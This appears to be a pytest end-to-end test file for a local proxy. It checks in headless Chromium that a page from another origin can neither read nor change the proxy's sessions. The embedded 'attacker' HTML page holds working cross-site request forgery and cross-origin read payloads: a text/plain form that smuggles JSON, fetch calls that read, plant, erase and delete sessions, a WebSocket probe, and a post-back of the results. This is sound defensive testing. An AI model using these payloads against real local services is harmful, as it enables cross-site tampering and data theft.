"""A page of another site, in a real browser on the same machine: it sees nothing, and changes nothing."""

import json
import shutil
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from queue import Queue
from typing import Any

import httpx
import pytest

from tests.e2e.processes import ProxyProcess

pytestmark = pytest.mark.extra
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
PAGE = """<!doctype html><title>attacker</title>
<form id="form" method="post" enctype="text/plain" target="frame" action="PROXY/api/sessions/toggle-auto">
<input name='{"enabled":false,"x":"' value='"}'></form><iframe name="frame"></iframe>
<img src="PROXY/api/sessions/1/activate"><script src="PROXY/api/sessions"></script>
<script>
const proxy = "PROXY", found = {};
const tries = {
  read: () => fetch(proxy + "/api/sessions").then((answer) => answer.text()),
  read_opaque: () => fetch(proxy + "/api/sessions", {mode: "no-cors"}).then((answer) => answer.text()),
  completion: () => fetch(proxy + "/v1/chat/completions", {method: "POST", mode: "no-cors",
    headers: {"Content-Type": "text/plain"}, body: '{"model":"demo/echo","messages":[{"role":"user","content":"x"}]}'})
    .then((answer) => answer.text()),
  json: () => fetch(proxy + "/api/sessions", {method: "POST", headers: {"Content-Type": "application/json"},
    body: '{"name":"planted"}'}).then((answer) => answer.text()),
  plain: () => fetch(proxy + "/api/sessions", {method: "POST", mode: "no-cors", body: '{"name":"planted"}'})
    .then((answer) => answer.text()),
  no_body: () => fetch(proxy + "/api/sessions/1/activate", {method: "POST", mode: "no-cors"})
    .then((answer) => answer.text()),
  erase: () => fetch(proxy + "/api/sessions/1/erase", {method: "POST", mode: "no-cors", body: '{"confirm":true}'})
    .then((answer) => answer.text()),
  remove: () => fetch(proxy + "/api/sessions/1", {method: "DELETE"}).then((answer) => answer.text()),
  mask: () => fetch(proxy + "/api/mask/MASK", {mode: "no-cors"}).then((answer) => answer.text()),
  socket: () => new Promise((resolve) => {
    const socket = new WebSocket(proxy.replace("http", "ws") + "/ws?after=0");
    socket.onmessage = (message) => { socket.close(); resolve("told"); };
    socket.onerror = () => resolve("");
    setTimeout(() => resolve("silent"), 10000);
  }),
};
(async () => {
  document.getElementById("form").submit();
  for (const [name, work] of Object.entries(tries)) {
    if (ONLY.length && !ONLY.includes(name)) continue;
    try { found[name] = await work(); } catch (error) { found[name] = ""; }
  }
  await fetch("/found", {method: "POST", body: JSON.stringify(found)});
})();
</script>"""


def page_for(proxy: str, *only: str) -> str:
    """The page that tries everything on a proxy, or only what is named."""
    return PAGE.replace("PROXY", proxy).replace("MASK", "0" * 16).replace("ONLY", json.dumps(only))


class Site(ThreadingHTTPServer):
    """Another site: it serves one page, and is told what the page found."""

    page = ""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), SiteHandler)
        self.found: Queue[dict[str, str]] = Queue()
        self.origin = f"http://localhost:{self.server_port}"


class SiteHandler(BaseHTTPRequestHandler):
    server: Site

    def do_GET(self) -> None:
        self.answer(self.server.page.encode())

    def do_POST(self) -> None:
        self.server.found.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        self.answer(b"thanks")

    def answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *arguments: Any) -> None:
        return


@pytest.fixture
def site() -> Iterator[Site]:
    server = Site()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


def visit(site: Site, profile: Path) -> dict[str, str]:
    """What the site's page found in a real browser, in real time: each try and what it could read ("" for nothing)."""
    command = [str(CHROMIUM), "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"]
    command += [f"--user-data-dir={profile}", "--remote-debugging-port=0", f"{site.origin}/"]
    with subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as browser:
        try:
            return site.found.get(timeout=60)
        finally:
            browser.terminate()


@pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not there")
def test_a_page_of_another_site_gets_nowhere(site: Site, tmp_path: Path) -> None:
    with ProxyProcess() as proxy:
        for name in ("secret name", "another"):
            httpx.post(f"{proxy.url}/api/sessions", json={"name": name})
        site.page = page_for(proxy.url)
        before = httpx.get(f"{proxy.url}/health").json()["position"]
        found = visit(site, tmp_path)
        assert len(found) == 10
        assert set(found.values()) == {""}, found
        assert httpx.get(f"{proxy.url}/health").json()["position"] == before
        assert proxy.get("/api/sessions/auto-status")["enabled"] is True


@pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not there")
def test_a_page_that_is_allowed_gets_its_answers(site: Site, tmp_path: Path) -> None:
    """So that the other test shows more than a browser that does nothing."""
    with ProxyProcess(f'[server]\nallowed_origins = ["{site.origin}"]\n') as proxy:
        httpx.post(f"{proxy.url}/api/sessions", json={"name": "secret name"})
        site.page = page_for(proxy.url, "read", "json", "socket")
        found = visit(site, tmp_path)
        assert "secret name" in found["read"]
        assert "planted" in found["json"]
        assert found["socket"] == "told"


@pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not there")
def test_our_own_page_works_in_a_browser(tmp_path: Path) -> None:
    command = [str(CHROMIUM), "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"]
    with ProxyProcess() as proxy:
        command += [f"--user-data-dir={tmp_path}", "--dump-dom", f"{proxy.url}/"]
        assert "Chronoproxy" in subprocess.run(command, capture_output=True, text=True, timeout=90, check=False).stdout
